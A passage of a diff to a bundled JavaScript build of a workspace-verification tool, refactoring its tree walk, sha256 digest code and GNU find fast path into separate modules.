+    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, mode ${e.expect.mode}`, recorded, found, cached);
+}
+
+// EXTERNAL MODULE: external "node:os"
+var external_node_os_ = __nccwpck_require__(8161);
+var external_node_os_default = /*#__PURE__*/__nccwpck_require__.n(external_node_os_);
 ;// CONCATENATED MODULE: ./src/core/verify/hash-pool.ts
 /**
  * Hashing many files at once. Small batches run inline (a worker costs 30-50 ms to start); big ones
@@ -14503,118 +15980,6 @@ function runWorker(workerData, onBatch) {
     });
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/locate-entry.ts
-/**
- * Finding an entry on disk without being led out of the workspace. The parent chain is resolved
- * with realpath and must stay inside the workspace; the entry itself is lstat'ed, never followed.
- * Checking is read-only, so a parent swapped between this call and a read yields a wrong answer at
- * worst, never a write elsewhere (writes in repair use their own descriptor-based checks).
- */
-
-
-
-/** Locate `rel` below `root` (an absolute, real directory path). */
-function locateInside(root, rel) {
-    const abs = rel === '.' ? root : external_node_path_default().join(root, rel);
-    if (rel !== '.') {
-        const parent = external_node_path_default().dirname(abs);
-        let realParent;
-        try {
-            realParent = external_node_fs_default().realpathSync(parent);
-        }
-        catch (err) {
-            const code = err.code;
-            const why = code === 'ENOTDIR' ? 'a parent is not a directory' : 'parent directory absent';
-            return { state: 'missing', abs, why };
-        }
-        if (!isInside(root, realParent)) {
-            return { state: 'escapes', abs, why: `parent resolves outside the workspace (${realParent})` };
-        }
-    }
-    try {
-        return { state: 'present', abs, st: external_node_fs_default().lstatSync(abs, { bigint: true }) };
-    }
-    catch (err) {
-        const code = err.code;
-        return { state: 'missing', abs, why: code === 'ENOENT' ? 'absent' : `unreadable (${code})` };
-    }
-}
-/** What a non-matching type is, in the words reports use. */
-function typeName(st) {
-    if (st.isFile())
-        return 'file';
-    if (st.isDirectory())
-        return 'directory';
-    if (st.isSymbolicLink())
-        return 'symlink';
-    if (st.isFIFO())
-        return 'fifo';
-    if (st.isSocket())
-        return 'socket';
-    return 'device';
-}
-/** The incremental-cache identity of a file: dev, inode, size, mtime_ns, ctime_ns. */
-function identity(st) {
-    return `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`;
-}
-
-;// CONCATENATED MODULE: ./src/core/verify/verifier.ts
-
-function isPending(i) {
-    return 'judge' in i;
-}
-/**
- * 1500000 → "1,500,000". By hand, not Intl.NumberFormat: creating a formatter initialises ICU,
- * measured at ~25 ms, a tenth of a whole check of a small workspace.
- */
-function num(n) {
-    if (!Number.isSafeInteger(n))
-        return String(n);
-    return String(n).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
-}
-/** Signed difference, "+12" / "-1,500,000". */
-function delta(found, wanted) {
-    const d = found - wanted;
-    return `${d > 0 ? '+' : '-'}${num(Math.abs(d))}`;
-}
-/** First 12 hex digits: enough to tell hashes apart in a report, never the whole secret-ish value. */
-function verifier_short(hash) {
-    return hash.slice(0, 12);
-}
-function finding(e, status, reason, detail, recorded, found, cached = false) {
-    return {
-        id: e.id,
-        kind: e.kind,
-        path: e.path,
-        tier: e.tier,
-        status,
-        reason,
-        detail,
-        recorded,
-        found,
-        cached
-    };
-}
-/**
- * The entry on disk when it exists with the wanted type; otherwise the MISSING finding (absent, or
- * a parent leading outside the workspace) or the TYPE finding every verifier starts with.
- */
-function locateAs(e, ctx, recorded, noun, is, want) {
-    const loc = locateInside(ctx.workspace, e.path);
-    if (loc.state !== 'present') {
-        const reason = loc.state === 'escapes' ? 'escapes' : 'absent';
-        return finding(e, 'MISSING', reason, `${noun} ${loc.why}`, recorded, { type: 'none' });
-    }
-    if (!is(loc.st)) {
-        const t = typeName(loc.st);
-        return finding(e, 'TYPE', 'type', `is a ${t} (want ${want})`, recorded, { type: t });
-    }
-    return { abs: loc.abs, st: loc.st };
-}
-function isFinding(x) {
-    return 'status' in x;
-}
-
 ;// CONCATENATED MODULE: ./src/core/verify/link.ts
 /**
  * `link` entries: a symlink with an exact target. Inside the workspace the chain is followed one
@@ -14668,51 +16033,6 @@ function followInside(workspace, abs, target) {
         to = external_node_fs_default().readlinkSync(next);
     }
     return { state: 'dangling', why: `more than ${MAX_HOPS} links in a chain (a loop?)` };
-}
-
-;// CONCATENATED MODULE: ./src/core/hash-off-thread.ts
-/**
- * Hashing one large file on a worker thread, with the verifiers' own kernel, so the main thread's
- * event loop stays live meanwhile: a lock holder refreshes its lock, signals are handled. A small
- * file is hashed inline (a worker costs 30-50 ms to start).
- */
-
-
-
-const hash_off_thread_INLINE_BYTES = 16 * 1024 * 1024;
-function hashOffThread(abs, how, size) {
-    if (size < hash_off_thread_INLINE_BYTES)
-        return Promise.resolve(runJob(abs, how));
-    return new Promise((resolve, reject) => {
-        const counter = new SharedArrayBuffer(4);
-        const w = new external_node_worker_threads_.Worker(kernelUrl(), {
-            workerData: { swrHashWorker: true, paths: [abs], hows: [how], counter }
-        });
-        let result;
-        w.on('message', (m) => {
-            if (m === 'done')
-                void w.terminate();
-            else
-                for (const [, r] of m)
-                    result = r;
-        });
-        w.on('error', reject);
-        w.on('exit', () => result ? resolve(result) : reject(new Error('hash worker ended without a result')));
-    });
-}
-
-;// CONCATENATED MODULE: ./src/core/verify/mode.ts
-/** Permission modes as manifests spell them ("0755") and the exec-bit rule behind STRIPPED. */
-/** "0755" from permission bits. */
-function octal(mode) {
-    return (mode & 0o7777).toString(8).padStart(4, '0');
-}
-function parseMode(text) {
-    return parseInt(text, 8) & 0o7777;
-}
-/** True when `found` lacks an exec bit that `wanted` has: what lossy restores do. */
-function lostExec(wanted, found) {
-    return (wanted & 0o111 & ~found) !== 0;
 }
 
 // EXTERNAL MODULE: external "node:zlib"
@@ -14854,8 +16174,6 @@ function diffIndex(recorded, now, nowExtra) {
     };
 }
 
-// EXTERNAL MODULE: external "node:child_process"
-var external_node_child_process_ = __nccwpck_require__(1421);
 // EXTERNAL MODULE: ./node_modules/ignore/index.js
 var ignore = __nccwpck_require__(298);
 var ignore_default = /*#__PURE__*/__nccwpck_require__.n(ignore);
@@ -14937,20 +16255,167 @@ function ignoreMatcher(rules) {
     return (rel, name, isDir = false) => names.has(name) || ig.ignores(isDir ? `${rel}/` : rel);
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/walk.ts
+/**
+ * The tree walk's records and the digests defined over them; the order and the lines are
+ * walk-format.mjs's. Symlinks are recorded, never followed. Names are bytes (see byte-names.mjs):
+ * lines hold them as the file system does, so a name that is not UTF-8 is walked, digested and
+ * indexed like any other. Which walker walks a tree is walk-strategy.ts's choice.
+ */
+
+
+
+
+
+
+/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
+function ident(r) {
+    return identText(r.dev, r.ino, r.mtimeNs, r.ctimeNs);
+}
+
+function walk_metaLine(r) {
+    return metaLine(r.rel, r.type, r.size, r.mode);
+}
+/** Feed digest lines to a hash: as UTF-8, or as the name bytes they carry when not plain text. */
+function updateLines(h, text) {
+    h.update(text.isWellFormed() ? text : bytesOf(text));
+}
+/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
+function digestLines(records, line) {
+    const h = (0,external_node_crypto_.createHash)('sha256');
+    const CHUNK = 2048;
+    for (let i = 0; i < records.length; i += CHUNK) {
+        let text = '';
+        const end = Math.min(records.length, i + CHUNK);
+        for (let k = i; k < end; k++)
+            text += line(records[k], k);
+        updateLines(h, text);
+    }
+    return h.digest('hex');
+}
+/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
+function metaDigestOf(records) {
+    return digestLines(records, walk_metaLine);
+}
+/** One stamp line: path and identity. */
+function walk_stampLine(r) {
+    return stampLine(r.rel, r.type, r.dev, r.ino, r.mtimeNs, r.ctimeNs);
+}
+/**
+ * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
+ * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
+ */
+function stampOf(records) {
+    return digestLines(records, walk_stampLine);
+}
+/** The record of one lstat'ed entry. */
+function recordOf(rel, type, st) {
+    return {
+        rel,
+        type,
+        size: type === TYPE.file ? Number(st.size) : 0,
+        mode: Number(st.mode & 4095n),
+        dev: st.dev,
+        ino: st.ino,
+        mtimeNs: st.mtimeNs,
+        ctimeNs: st.ctimeNs
+    };
+}
+/**
+ * Walk the tree at `root` (already known to be a real directory) in walk-format.mjs's order,
+ * collecting one record per entry; digests are computed afterwards, only those the caller needs.
+ * `exclude` holds absolute paths of swr's own files (state directory, manifest, tree indexes)
+ * that are never part of a tree.
+ */
+function walkTree(root, ignore, exclude = new Set()) {
+    const records = [];
+    const unreadable = [];
+    let files = 0;
+    const rules = { exclude, ignored: ignoreMatcher(ignore) };
+    visitTree(root, '', rules, (_abs, rel, type, st) => {
+        records.push(recordOf(rel, type, st));
+        if (type !== TYPE.dir)
+            files++;
+    }, unreadable);
+    return { records, files, unreadable };
+}
+/** The content digest, given each file's sha256 and each link's target (by record index). */
+function contentDigest(records, extra) {
+    return digestLines(records, (r, i) => contentLine(metaFields(r.rel, r.type, r.size, r.mode), extra[i] ?? ''));
+}
+/** Link targets for the link records (readlink never follows). */
+function linkTargets(root, records) {
+    return records.map(r => {
+        if (r.type !== TYPE.link)
+            return undefined;
+        try {
+            return readTarget(external_node_path_default().join(root, r.rel));
+        }
+        catch {
+            return '';
+        }
+    });
+}
+/** A walk whose digests are computed only if and when something reads them. */
+function lazyDigests(walk, knownMeta) {
+    let meta;
+    let stamp;
+    // Getters, not a copy: a parallel walk's records are unpacked only when something reads them.
+    return {
+        get records() {
+            return walk.records;
+        },
+        files: walk.files,
+        unreadable: walk.unreadable,
+        get shas() {
+            return walk.shas;
+        },
+        pre: walk.pre,
+        get metaDigest() {
+            meta ??= walk.pre?.meta ?? knownMeta?.() ?? metaDigestOf(walk.records);
+            return meta;
+        },
+        get stamp() {
+            stamp ??= walk.pre?.stamp ?? stampOf(walk.records);
+            return stamp;
+        }
+    };
+}
+/**
+ * The top level's names in walk order, typed from the directory listing (the file system's d_type;
+ * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
+ */
+function listTop(root, ignore, exclude) {
+    let entries;
+    try {
+        entries = readEntries(root);
+    }
+    catch {
+        return undefined;
+    }
+    const ignored = ignoreMatcher(ignore);
+    return entries
+        .map(d => ({ rel: d.name, dir: d.dir }))
+        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
+        .sort((a, b) => compareNames(a.rel, b.rel));
+}
+/** A file's entry in the per-file cache: its identity, size and sha256. */
+function cacheValue(r, sha256) {
+    return cacheText(ident(r), r.size, sha256);
+}
+
 ;// CONCATENATED MODULE: ./src/core/verify/find-lines.ts
 /**
  * find's output as lines, indexed and re-sorted into the Node walker's order. find prints each
- * directory in readdir order, one start point after another; the Node walker (hash-kernel.mjs)
- * visits each directory's children sorted by name, each followed by its own subtree. Everything
+ * directory in readdir order, one start point after another; the walk (walk-format.mjs) visits
+ * each directory's children sorted by name, each followed by its own subtree. Everything
  * here works on the bytes as find wrote them: lines are found, compared and copied as bytes and
  * hashed as they are, with no string per line (strings were most of the time, and most of the
  * garbage, when lines were decoded).
  */
 
-const NL = 0x0a;
-const NUL = 0x00;
+
 const SLASH = 0x2f;
-const TYPE_DIR = 0x64;
 /**
  * Where each line of find's output starts, where its path ends, where its name starts, and where
  * its subtree ends (the next line that is not below it): siblings are then found by jumping, and
@@ -14992,7 +16457,7 @@ class Lines {
         let last = -1;
         for (let i = 0; i < n; i++) {
             const c = b[i];
-            if (c === NL) {
+            if (c === LINE_END) {
                 if (z <= s)
                     return false;
                 this.push(s, z, d, last + 1);
@@ -15002,7 +16467,7 @@ class Lines {
                 last = i;
             }
             else if (z === -1) {
-                if (c === NUL)
+                if (c === FIELD_SEP)
                     z = i;
                 else if (c === SLASH) {
                     d++;
@@ -15047,7 +16512,10 @@ class Lines {
             this.end[open.pop()] = this.count;
         }
     }
-    /** Byte order of two lines' names (names are unique among siblings: never 0). */
+    /**
+     * Byte order of two lines' names (names are unique among siblings: never 0): walk-format.mjs's
+     * visit order on the names' bytes, the same order but where native-walk.ts says it is not.
+     */
     compareNames(x, y) {
         const k = this.key[x] - this.key[y];
         if (k !== 0)
@@ -15066,7 +16534,7 @@ class Lines {
     }
     /** Both kinds of line carry the type right after the path. */
     isDir(k) {
-        return this.bytes[this.nul[k] + 1] === TYPE_DIR;
+        return this.bytes[this.nul[k] + 1] === DIR_BYTE;
     }
     startsWith(k, prefix) {
         const b = this.bytes;
@@ -15166,8 +16634,9 @@ function splitBatch(bytes, batch, roots, texts) {
  * the lines in about half the time two Node walk workers take: Node's per-entry cost is the lstat
  * binding and its Stats object, not the system call, and a metadata check is nothing but that.
  *
- * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: find emits
- * each directory in readdir order, and find-lines.ts re-sorts the children by name (piping through
+ * The lines are the ones the Node walker (hash-kernel.mjs) writes, in the same order: both take
+ * them from walk-format.mjs (find through its -printf formats). find emits each directory in
+ * readdir order, and find-lines.ts re-sorts the children by name (piping through
  * sort(1) instead, or sorting in worker threads, were both measured slower: sort cannot start
  * before find ends, and workers cost more to start than they save on two cores). Whenever the
  * result could differ in any way, this returns undefined and the caller walks in Node: no find or
@@ -15181,6 +16650,7 @@ function splitBatch(bytes, batch, roots, texts) {
  * one, and a digest that differs only ever sends the check down its full walk. Equal digests are
  * all the fast path trusts, and find's lines are the tree as it is.
  */
+
 
 
 
@@ -15213,37 +16683,17 @@ function executable(bin) {
     }
 }
 /**
- * find's expression: names to prune, then one -printf per type so each line is the digest line
- * itself, path relative to the tree (start points are its top-level names). `top` describes the
- * start points themselves (the tree's top level) instead of what lies below them.
+ * find's expression: names to prune, then walk-format.mjs's -printf per type, so each line is the
+ * digest line itself, path relative to the tree (start points are its top-level names). `top`
+ * describes the start points themselves (the tree's top level) instead of what lies below them.
  */
 function findArgs(kind, ignore, top = false) {
-    // \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
-    const line = (type, size) => kind === 'meta'
-        ? `%p\\000${type}\\000${size}\\000%04m\\n`
-        : `%p\\000${type}\\000%D:%i:%T@:%C@\\n`;
     const prune = ignore.flatMap((n, i) => (i === 0 ? ['-name', n] : ['-o', '-name', n]));
     return [
         ...(top ? ['-maxdepth', '0'] : ['-mindepth', '1']),
         ...(prune.length > 0 ? ['(', ...prune, ')', '-prune', '-o'] : []),
         '(',
-        '-type',
-        'f',
-        '-printf',
-        line('f', '%s'),
-        '-o',
-        '-type',
-        'd',
-        '-printf',
-        line('d', '0'),
-        '-o',
-        '-type',
-        'l',
-        '-printf',
-        line('l', '0'),
-        '-o',
-        '-printf',
-        line('o', '0'),
+        ...findPrintArgs(kind),
         ')'
     ];
 }
@@ -15441,16 +16891,11 @@ function assemble(l, top, subtrees, raw) {
     return { digest: h.digest('hex'), files, unreadable: [], raw };
 }
 
-;// CONCATENATED MODULE: ./src/core/verify/walk.ts
+;// CONCATENATED MODULE: ./src/core/verify/walk-workers.ts
 /**
- * The tree walk and the digests defined over it. Order: depth-first, children by name in JavaScript
- * string order, so no global sort is needed. Symlinks are recorded, never followed. Names are
- * bytes (see byte-names.mjs): lines hold them as the file system does, so a name that is not UTF-8
- * is walked, digested and indexed like any other. Each record contributes one line to each digest:
- *   meta:    relpath NUL type NUL size NUL mode LF         (type f, d, l or o; size 0 unless f)
- *   content: the meta line's fields, NUL sha256 (files) or link target (links), LF
- *   stamp:   relpath NUL type NUL dev:inode:mtime:ctime LF  (the incremental-cache key; times as
- *            GNU find's %T@ prints them, so the native walker's lines need no conversion)
+ * The walk on worker threads: the main thread lists the tree's upper levels (splitTop) and walk
+ * workers (hash-kernel.mjs) walk the directories below them, each in walk-format.mjs's order and
+ * writing its lines; the results are stitched back here in walk order.
  */
 
 
@@ -15460,169 +16905,8 @@ function assemble(l, top, subtrees, raw) {
 
 
 
-
-
-
-/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
-function ident(r) {
-    return `${r.dev}:${r.ino}:${r.mtimeNs}:${r.ctimeNs}`;
-}
-
-const MODES = new Map();
-function walk_modeText(mode) {
-    let t = MODES.get(mode);
-    if (t === undefined) {
-        t = octal(mode);
-        MODES.set(mode, t);
-    }
-    return t;
-}
-function metaLine(r) {
-    return `${r.rel}\0${r.type}\0${r.type === 'f' ? r.size : 0}\0${walk_modeText(r.mode)}\n`;
-}
-/** Feed digest lines to a hash: as UTF-8, or as the name bytes they carry when not plain text. */
-function updateLines(h, text) {
-    h.update(text.isWellFormed() ? text : bytesOf(text));
-}
-/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
-function digestLines(records, line) {
-    const h = (0,external_node_crypto_.createHash)('sha256');
-    const CHUNK = 2048;
-    for (let i = 0; i < records.length; i += CHUNK) {
-        let text = '';
-        const end = Math.min(records.length, i + CHUNK);
-        for (let k = i; k < end; k++)
-            text += line(records[k], k);
-        updateLines(h, text);
-    }
-    return h.digest('hex');
-}
-/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
-function metaDigestOf(records) {
-    return digestLines(records, metaLine);
-}
-/** One stamp line: path and identity (the worker kernel spells it the same way). */
-function stampLine(r) {
-    return `${r.rel}\0${r.type}\0${r.dev}:${r.ino}:${stampTime(r.mtimeNs)}:${stampTime(r.ctimeNs)}\n`;
-}
-/**
- * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
- * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
- */
-function stampOf(records) {
-    return digestLines(records, stampLine);
-}
-/** The record of one lstat'ed entry. */
-function recordOf(rel, st) {
-    const type = st.isFile()
-        ? 'f'
-        : st.isDirectory()
-            ? 'd'
-            : st.isSymbolicLink()
-                ? 'l'
-                : 'o';
-    return {
-        rel,
-        type,
-        size: type === 'f' ? Number(st.size) : 0,
-        mode: Number(st.mode & 4095n),
-        dev: st.dev,
-        ino: st.ino,
-        mtimeNs: st.mtimeNs,
-        ctimeNs: st.ctimeNs
-    };
-}
-/**
- * Walk the tree at `root` (already known to be a real directory), collecting one record per entry;
- * digests are computed afterwards, only those the caller needs. `exclude` holds absolute paths of
- * swr's own files (state directory, manifest, tree indexes) that are never part of a tree.
- */
-function walkTree(root, ignore, exclude = new Set()) {
-    const ignored = ignoreMatcher(ignore);
-    const records = [];
-    const unreadable = [];
-    let files = 0;
-    const visit = (absDir, relDir) => {
-        let names;
-        try {
-            names = readNames(absDir);
-        }
-        catch (err) {
-            unreadable.push({ rel: relDir || '.', code: err.code ?? 'EIO' });
-            return;
-        }
-        names.sort();
-        for (const name of names) {
-            const rel = relDir ? `${relDir}/${name}` : name;
-            const abs = `${absDir}/${name}`;
-            if (exclude.has(abs))
-                continue;
-            const st = external_node_fs_default().lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false });
-            if (!st)
-                continue; // vanished between readdir and lstat: the same as not there
-            if (ignored(rel, name, st.isDirectory()))
-                continue;
-            const rec = recordOf(rel, st);
-            records.push(rec);
-            if (rec.type === 'd')
-                visit(abs, rel);
-            else
-                files++;
-        }
-    };
-    visit(root, '');
-    return { records, files, unreadable };
-}
-/** The content digest, given each file's sha256 and each link's target (by record index). */
-function contentDigest(records, extra) {
-    return digestLines(records, (r, i) => `${metaLine(r).slice(0, -1)}\0${extra[i] ?? ''}\n`);
-}
-/** Link targets for the link records (readlink never follows). */
-function linkTargets(root, records) {
-    return records.map(r => {
-        if (r.type !== 'l')
-            return undefined;
-        try {
-            return readTarget(external_node_path_default().join(root, r.rel));
-        }
-        catch {
-            return '';
-        }
-    });
-}
-/** A walk whose digests are computed only if and when something reads them. */
-function lazyDigests(walk, knownMeta) {
-    let meta;
-    let stamp;
-    // Getters, not a copy: a parallel walk's records are unpacked only when something reads them.
-    return {
-        get records() {
-            return walk.records;
-        },
-        files: walk.files,
-        unreadable: walk.unreadable,
-        get shas() {
-            return walk.shas;
-        },
-        pre: walk.pre,
-        get metaDigest() {
-            meta ??= walk.pre?.meta ?? knownMeta?.() ?? metaDigestOf(walk.records);
-            return meta;
-        },
-        get stamp() {
-            stamp ??= walk.pre?.stamp ?? stampOf(walk.records);
-            return stamp;
-        }
-    };
-}
 /** The smallest number of top-level subdirectories worth splitting across workers. */
 const MIN_ROOTS = 16;
-/**
- * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
- * finds costs ~15 ms, about what the Node walker spends on 1,000 entries (lstat ~10-15 µs each
- * here, plus the garbage), and find walks the rest at about half Node's cost per entry.
- */
-const NATIVE_MIN_FILES = 1000;
 /** How many levels below the root the main thread lists, at most, to find enough subdirectories. */
 const MAX_SPLIT_DEPTH = 3;
 /**
@@ -15636,25 +16920,14 @@ function splitTop(root, ignore, exclude) {
     // Workers match plain names only; a glob rule keeps the walk inline (see ignore-rules.ts).
     if (!allPlainNames(ignore))
         return undefined;
-    const ignored = ignoreMatcher(ignore);
+    const rules = { exclude, ignored: ignoreMatcher(ignore) };
     const list = (relDir) => {
-        const absDir = relDir ? `${root}/${relDir}` : root;
-        let names;
+        const out = [];
         try {
-            names = readNames(absDir).sort();
+            eachChild(relDir ? `${root}/${relDir}` : root, relDir, rules, (_abs, rel, type, st) => out.push(recordOf(rel, type, st)));
         }
         catch {
             return undefined;
-        }
-        const out = [];
-        for (const name of names) {
-            const rel = relDir ? `${relDir}/${name}` : name;
-            const abs = `${absDir}/${name}`;
-            if (exclude.has(abs))
-                continue;
-            const st = external_node_fs_default().lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false });
-            if (st && !ignored(rel, name, st.isDirectory()))
-                out.push(recordOf(rel, st));
         }
         return out;
     };
@@ -15663,12 +16936,12 @@ function splitTop(root, ignore, exclude) {
         return undefined;
     // `open`: a directory whose entries are listed here (so not a root).
     let level = first.map(rec => ({ rec, open: false }));
-    const roots = () => level.filter(x => x.rec.type === 'd' && !x.open).length;
+    const roots = () => level.filter(x => x.rec.type === TYPE.dir && !x.open).length;
     for (let depth = 1; roots() > 0 && roots() < MIN_ROOTS && depth < MAX_SPLIT_DEPTH; depth++) {
         const next = [];
         for (const x of level) {
             next.push(x);
-            if (x.rec.type !== 'd' || x.open)
+            if (x.rec.type !== TYPE.dir || x.open)
                 continue;
             const below = list(x.rec.rel);
             if (!below)
@@ -15682,7 +16955,7 @@ function splitTop(root, ignore, exclude) {
         return undefined;
     const split = { top: [], roots: [] };
     for (const { rec, open } of level) {
-        const sub = rec.type === 'd' && !open
+        const sub = rec.type === TYPE.dir && !open
             ? split.roots.push({ abs: `${root}/${rec.rel}`, rel: rec.rel }) - 1
             : -1;
         split.top.push({ rec, sub });
@@ -15690,56 +16963,18 @@ function splitTop(root, ignore, exclude) {
     return split;
 }
 /**
- * The top level's names in walk order, typed from the directory listing (the file system's d_type;
- * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
+ * The metadata digest or the cache stamp of the tree `split` describes, from walk workers that
+ * return each subtree's lines as text, hashed here in walk order (no per-entry records).
  */
-function listTop(root, ignore, exclude) {
-    let entries;
-    try {
-        entries = readEntries(root);
-    }
-    catch {
-        return undefined;
-    }
-    const ignored = ignoreMatcher(ignore);
-    return entries
-        .map(d => ({ rel: d.name, dir: d.dir }))
-        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
-        .sort((a, b) => (a.rel < b.rel ? -1 : 1));
-}
-/**
- * The metadata digest or the cache stamp of a large tree without building per-entry records: from
- * GNU find's lines where native-walk.ts can promise the Node walker's, else from walk workers that
- * return each subtree's lines as text, hashed here in walk order. Undefined when the tree is too
- * small or flat for either (the caller walks it inline).
- */
-async function digestTreeParallel(root, ignore, exclude, opts) {
-    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
-    if (opts.native !== false) {
-        // find describes the top level too: only the listing is read here (no lstat per entry).
-        const top = listTop(root, ignore, exclude);
-        const dirs = top?.filter(t => t.dir).length ?? 0;
-        if (top && dirs > 0 && (dirs >= MIN_ROOTS || (opts.expectFiles ?? 0) >= NATIVE_MIN_FILES)) {
-            const r = await nativeTreeDigest(root, top, ignore, exclude, opts.kind, jobs, {
-                known: opts.known
-            });
-            if (r)
-                return r;
-        }
-    }
-    if (jobs < 2)
-        return undefined;
-    const split = splitTop(root, ignore, exclude);
-    if (!split)
-        return undefined;
-    const line = opts.kind === 'meta' ? metaLine : stampLine;
-    const texts = await inWorkers({ swrTextWorker: true, kind: opts.kind }, split.roots, ignore, exclude, jobs);
+async function digestInWorkers(split, ignore, exclude, kind, jobs) {
+    const line = kind === 'meta' ? walk_metaLine : walk_stampLine;
+    const texts = await inWorkers({ swrTextWorker: true, kind }, split.roots, ignore, exclude, jobs);
     const h = (0,external_node_crypto_.createHash)('sha256');
     let files = 0;
     const unreadable = [];
     for (const { rec, sub } of split.top) {
         updateLines(h, line(rec));
-        if (rec.type !== 'd')
+        if (rec.type !== TYPE.dir)
             files++;
         const t = sub >= 0 ? texts[sub] : undefined;
         if (!t)
@@ -15751,19 +16986,15 @@ async function digestTreeParallel(root, ignore, exclude, opts) {
     return { digest: h.digest('hex'), files, unreadable };
 }
 /**
- * The same walk on every core: the main thread reads the top level, workers claim its
- * subdirectories one at a time (lstat, and with `hash` also the file hashes, in one pass) and the
- * results are stitched back in walk order. Workers return each subtree's digest lines as text, so
- * this thread only hashes them in order; the records are unpacked from packed columns only if
- * something asks for them (a diff). Small or flat trees are walked inline.
+ * The same walk on every core: this thread describes the upper levels `split` listed, workers
+ * claim the directories below them one at a time (lstat, and with `hash` also the file hashes, in
+ * one pass) and the results are stitched back in walk order. Workers return each subtree's digest
+ * lines as bytes, so this thread only hashes them in order; the records are unpacked from packed
+ * columns only if something asks for them (a diff).
  */
-async function walkTreeParallel(root, ignore, exclude, opts) {
-    const jobs = Math.min(opts.jobs ?? external_node_os_default().availableParallelism(), 8);
-    const split = jobs < 2 ? undefined : splitTop(root, ignore, exclude);
-    if (!split)
-        return walkTree(root, ignore, exclude);
+async function walkInWorkers(root, split, ignore, exclude, opts) {
     const { top, roots } = split;
-    const working = walkRootsInWorkers(roots, ignore, exclude, opts.hash, jobs);
+    const working = walkRootsInWorkers(roots, ignore, exclude, opts.hash, opts.jobs);
     // This thread's own entries (lines, and the files' hashes) while the workers walk theirs.
     const own = top.map(({ rec }) => {
         let content;
@@ -15771,16 +17002,16 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         let cached;
         if (opts.hash) {
             let extra;
-            if (rec.type === 'f') {
+            if (rec.type === TYPE.file) {
                 extra = sha = walkedOrError(`${root}/${rec.rel}`, rec.size);
                 if (sha !== undefined)
                     cached = Buffer.from(`,${JSON.stringify(rec.rel)}:${JSON.stringify(cacheValue(rec, sha))}`);
             }
-            else if (rec.type === 'l')
+            else if (rec.type === TYPE.link)
                 extra = linkTargets(root, [rec])[0];
-            content = `${metaLine(rec).slice(0, -1)}\0${extra ?? ''}\n`;
+            content = contentLine(metaFields(rec.rel, rec.type, rec.size, rec.mode), extra ?? '');
         }
-        return { meta: metaLine(rec), stamp: stampLine(rec), content, sha, cached };
+        return { meta: walk_metaLine(rec), stamp: walk_stampLine(rec), content, sha, cached };
     });
     const results = await working;
     const meta = (0,external_node_crypto_.createHash)('sha256');
@@ -15795,13 +17026,13 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         const o = own[k];
         updateLines(meta, o.meta);
         updateLines(stamp, o.stamp);
-        if (rec.type !== 'd')
+        if (rec.type !== TYPE.dir)
             files++;
         if (o.content !== undefined) {
             updateLines(content, o.content);
-            if (rec.type === 'f')
+            if (rec.type === TYPE.file)
                 topShas.set(k, o.sha);
-            if (rec.type === 'f' && o.sha === undefined)
+            if (rec.type === TYPE.file && o.sha === undefined)
                 failed++;
             if (o.cached)
                 cache.push(o.cached);
@@ -15845,10 +17076,6 @@ async function walkTreeParallel(root, ignore, exclude, opts) {
         pre
     };
 }
-/** A file's entry in the per-file cache: its identity, size and sha256. */
-function cacheValue(r, sha256) {
-    return `${ident(r)} ${r.size} ${sha256}`;
-}
 /** NUL-separated name bytes as names (byte-names.mjs spelling). */
 function splitNames(bytes) {
     const b = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length);
@@ -15886,15 +17113,13 @@ function unpackWalk(top, results, topShas) {
                 ctimeNs: r.ctimes[i]
             });
             const sha = hex.slice(i * 64, i * 64 + 64);
-            shas.push(sha === walk_NO_SHA ? undefined : sha);
+            shas.push(sha === NO_SHA ? undefined : sha);
         }
     });
     return { records, shas };
 }
 const OPEN = Buffer.from('{');
 const CLOSE = Buffer.from('}');
-/** The sha256 slot of a record with none (hash-kernel.mjs writes the same). */
-const walk_NO_SHA = '-'.repeat(64);
 function walkRootsInWorkers(roots, ignore, exclude, hash, jobs) {
     return inWorkers({ swrWalkWorker: true, hash }, roots, ignore, exclude, jobs);
 }
@@ -15933,6 +17158,2988 @@ function inWorkers(role, roots, ignore, exclude, jobs) {
         });
     });
     return Promise.all(Array.from({ length: Math.min(jobs, roots.length) }, one)).then(() => results);
+}
+
+;// CONCATENATED MODULE: ./src/core/verify/walk-strategy.ts
+/**
+ * Which walker walks a tree. Every walker gives the same lines in the same order (walk-format.mjs),
+ * so the choice is about speed only: GNU find (native-walk.ts) for the record-less digests of a
+ * large tree, else walk workers when the tree splits into enough subtrees (walk-workers.ts), else
+ * the inline walk (walk.ts). `SWR_NATIVE_WALK=0` turns the find path off (a find that misbehaves
+ * on some file system, or to compare the walkers); `1` or unset leaves it on.
+ */
+
+
+
+
+
+/** The variable that turns the native walk off. */
+const NATIVE_WALK_VAR = 'SWR_NATIVE_WALK';
+/**
+ * The smallest tree (recorded files) worth a find whatever its shape: starting the shell and the
